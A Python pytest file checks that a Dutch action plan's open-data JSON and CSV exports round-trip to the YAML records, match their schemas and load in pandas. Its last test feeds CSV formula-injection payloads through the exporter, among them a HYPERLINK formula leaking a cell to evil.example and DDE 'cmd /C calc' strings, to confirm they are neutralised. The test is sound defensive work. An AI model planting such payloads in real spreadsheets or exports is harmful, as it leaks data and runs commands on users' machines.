"""The open data exports round-trip to the YAML records: same count, same fields, same values."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import jsonschema
import pytest

from macros.data.load import load_document
from macros.outputs.exports import EXPORTS, FORMULA_START, csv_header, csv_text, json_records
from macros.pipeline import load_plan
from macros.views.open_data import field_rows
from tests.helpers import ROOT, copy_fixture_data, edit, soup

#: The exports with one record per YAML record (progress and spending are documents: tests/test_progress.py).
KINDS = [kind.name for kind in EXPORTS if not kind.document]


def _read(path: Path):
    doc, problems = load_document(path, path.name)
    assert doc is not None and not problems
    return doc.data


def yaml_records(data_dir: Path, kind: str) -> list[dict]:
    """The records as written in the YAML files, read with the project's loader (not the model)."""
    if kind == "maatregelen":
        # Actions and assessments are exports of their own; the end state is one column per field.
        return [
            {k: v for k, v in _read(p).items() if k not in ("acties", "beoordelingen", "eindstand")}
            | {f"eindstand_{k}": v for k, v in (_read(p).get("eindstand") or {}).items()}
            for p in sorted((data_dir / "maatregelen").glob("*.yml"))
        ]
    if kind == "beoordelingen":
        return [
            {**b, "maatregel": m["id"], "id": f"{m['id']}-B{n}"}
            for p in sorted((data_dir / "maatregelen").glob("*.yml"))
            for m in [_read(p)]
            for n, b in enumerate(m.get("beoordelingen") or [], start=1)
        ]
    if kind == "acties":
        return [
            {**a, "maatregel": m["id"]}
            for p in sorted((data_dir / "maatregelen").glob("*.yml"))
            for m in [_read(p)]
            for a in m["acties"]
        ]
    return _read(data_dir / f"{kind}.yml")[kind]


def _empty(value) -> bool:
    return value in (None, "", [], False)


def _same(exported, written) -> bool:
    if isinstance(written, list) and written and isinstance(written[0], dict):
        return len(exported) == len(written) and all(
            all(_same(e.get(k), w.get(k)) for k in set(e) | set(w)) for e, w in zip(exported, written, strict=True)
        )
    if isinstance(written, (int, float, Decimal)) and not isinstance(written, bool):
        return exported is not None and Decimal(str(exported)) == Decimal(str(written))
    if _empty(written) or _empty(exported):
        return _empty(written) and _empty(exported)
    return exported == written


def assert_round_trip(exported: list[dict], written: list[dict], kind: str) -> None:
    assert len(exported) == len(written), kind
    order = [r["id"] for r in written]
    exported_by_id = {r["id"]: r for r in exported}
    assert sorted(exported_by_id) == sorted(order), kind
    for record in written:
        out = exported_by_id[record["id"]]
        assert set(record) <= set(out), f"{kind} {record['id']}: fields missing in the export: {set(record) - set(out)}"
        for field in out:
            assert _same(out[field], record.get(field)), (
                f"{kind} {record['id']}.{field}: {out[field]!r} != {record.get(field)!r}"
            )


@pytest.mark.parametrize("kind", KINDS)
def test_json_round_trips_to_yaml(site, kind):
    exported = json.loads((site / "data" / f"{kind}.json").read_text(encoding="utf-8"))
    assert_round_trip(exported, yaml_records(ROOT / "data", kind), kind)


@pytest.mark.parametrize("kind", [kind.name for kind in EXPORTS])
def test_json_matches_its_published_schema(site, kind):
    schema = json.loads((site / "data" / f"{kind}.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(
        json.loads((site / "data" / f"{kind}.json").read_text(encoding="utf-8"))
    )


def _as_text(cell: str) -> str:
    """A cell as a spreadsheet shows it: a formula is never run, and a leading ' only marks text."""
    assert not cell.startswith(FORMULA_START), f"a spreadsheet would run {cell!r} as a formula"
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


def csv_as_records(raw: bytes, kind: str) -> list[dict]:
    """Read the CSV as a Dutch spreadsheet would, and rebuild lists, numbers and the budget."""
    assert raw.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 byte order mark"
    assert b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    kind_spec = next(k for k in EXPORTS if k.name == kind)
    types = {c.name: c.type for c in kind_spec.columns}
    records = []
    for row in rows:
        record: dict = {}
        budget: dict[int, dict] = {}
        for name, cell in row.items():
            match = re.fullmatch(r"(toegekend|verplicht|besteed)_(\d{4})", name)
            if match:
                if cell != "":
                    budget.setdefault(int(match[2]), {"jaar": int(match[2])})[match[1]] = Decimal(
                        cell.replace(",", ".")
                    )
                continue
            kind_of = types[name]
            if kind_of == "lijst":
                record[name] = _as_text(cell).split(", ") if cell else []
            elif kind_of == "ja/nee":
                assert cell in ("true", "false")
                record[name] = cell == "true"
            else:
                record[name] = _as_text(cell) or None
        if "budget" in types:
            record["budget"] = [budget[year] for year in sorted(budget)]
        records.append(record)
    return records


@pytest.mark.parametrize("kind", KINDS)
def test_csv_round_trips_to_yaml(site, kind):
    records = csv_as_records((site / "data" / f"{kind}.csv").read_bytes(), kind)
    assert_round_trip(records, yaml_records(ROOT / "data", kind), kind)


@pytest.mark.parametrize("kind", KINDS)
def test_csv_reads_in_pandas_as_the_open_data_page_says(site, kind):
    import pandas as pd

    page = soup(site / "open-data" / "index.html").get_text()
    call = 'read_csv(site + "maatregelen.csv", sep=";", decimal=",", encoding="utf-8-sig")'
    assert call in page.replace("\n", "")
    frame = pd.read_csv(site / "data" / f"{kind}.csv", sep=";", decimal=",", encoding="utf-8-sig")
    written = yaml_records(ROOT / "data", kind)
    assert len(frame) == len(written)
    assert sorted(frame["id"]) == sorted(r["id"] for r in written)
    if "illustratief" in frame and len(frame):  # an empty column has no type to check
        assert frame["illustratief"].dtype == bool
    if kind == "projecten":
        for record in written:
            row = frame[frame["id"] == record["id"]].iloc[0]
            for year in record["budget"]:
                assert Decimal(str(row[f"toegekend_{year['jaar']}"])) == Decimal(str(year["toegekend"]))


def test_exports_keep_cents_and_awkward_text(tmp_path):
    """Cents, separators, quotes and line breaks survive both formats (fixture plan, changed)."""
    data = tmp_path / "data"
    copy_fixture_data(data)
    measure = data / "maatregelen" / "M01.yml"
    edit(
        measure,
        "omschrijving: Een voorbeeldmaatregel voor de tests.",
        'omschrijving: "Eén; twee, \\"drie\\"\\nnieuwe regel = =SOM(A1)"',
    )
    plan, _ = load_plan(data, shown_root=tmp_path)
    for kind in (k for k in EXPORTS if k.name in KINDS):
        written = yaml_records(data, kind.name)
        assert_round_trip(json.loads(json.dumps(json_records(kind, plan))), written, kind.name)
        raw = b"\xef\xbb\xbf" + csv_text(kind, plan).encode("utf-8")
        assert_round_trip(csv_as_records(raw, kind.name), written, kind.name)
    projects = csv_text(next(k for k in EXPORTS if k.name == "projecten"), plan)
    assert ";150000,50;" in projects
    assert json_records(next(k for k in EXPORTS if k.name == "projecten"), plan)[0]["budget"][0]["besteed"] == 150000.5


def test_open_data_page_documents_every_export(site):
    """Each export has its section with its three files, every JSON field (nested ones too) and every CSV column."""
    from macros.pipeline import load_plan

    plan, _ = load_plan(ROOT / "data", shown_root=ROOT)
    page = site / "open-data" / "index.html"
    html = soup(page)
    for kind in EXPORTS:
        section = html.find("section", attrs={"aria-labelledby": f"open-data-{kind.name}"})
        assert section is not None, kind.name
        for href in (a["href"] for a in section.select("ul.ap-bestanden a")):
            assert (page.parent / href).resolve().is_file(), href
        documented = [th.get_text() for th in section.select("tbody th[scope=row] code")]
        expected = [path for path, _ in field_rows(kind.columns)]
        if kind.document:
            expected += [column.name for column in kind.csv_columns]
        assert documented == expected, kind.name
        assert set(csv_header(kind, plan)) <= {code.get_text() for code in section.select("code")}, kind.name


@pytest.mark.parametrize("kind", [kind.name for kind in EXPORTS if kind.document])
def test_plain_csv_reads_in_pandas_as_the_open_data_page_says(site, kind):
    import pandas as pd

    from macros.pipeline import load_plan

    page = soup(site / "open-data" / "index.html").get_text()
    assert 'pd.read_csv(site + "voortgang.csv")' in page
    raw = (site / "data" / f"{kind}.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw
    spec = next(k for k in EXPORTS if k.name == kind)
    plan, _ = load_plan(ROOT / "data", shown_root=ROOT)
    frame = pd.read_csv(site / "data" / f"{kind}.csv")
    assert list(frame.columns) == [c.name for c in spec.csv_columns]
    assert len(frame) == len(spec.rows(plan))
    assert frame["illustratief"].dtype == bool


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
        "@SUM(1+1)*cmd|' /C calc'!A0 Wensen",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\tverborgen formule =1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_could_be_formulas_are_neutralised(tmp_path, title):
    """Audit M1: in every CSV a text that starts like a formula gets a ' in front (OWASP); JSON keeps the text."""
    data = tmp_path / "data"
    copy_fixture_data(data)
    edit(data / "maatregelen" / "M01.yml", "titel: Informatiepunt mensenhandel", f"titel: {json.dumps(title)}")
    edit(data / "maatregelen" / "M01.yml", "    titel: Informatiepunt inrichten", f"    titel: {json.dumps(title)}")
    plan, _ = load_plan(data, shown_root=tmp_path)
    seen = 0
    for kind in EXPORTS:
        raw = csv_text(kind, plan)
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=kind.csv_format.delimiter):
            # What a spreadsheet evaluates: any cell whose first character starts a formula.
            assert not any(cell.startswith(FORMULA_START) for cell in row), (kind.name, row)
            seen += sum(cell == "'" + title for cell in row)
    assert seen >= 2  # the measure's title and its action's title
    for kind in (k for k in EXPORTS if k.name in KINDS):
        records = csv_as_records(b"\xef\xbb\xbf" + csv_text(kind, plan).encode("utf-8"), kind.name)
        assert_round_trip(records, yaml_records(data, kind.name), kind.name)
    measures = json_records(next(k for k in EXPORTS if k.name == "maatregelen"), plan)
    assert next(r for r in measures if r["id"] == "M01")["titel"] == title
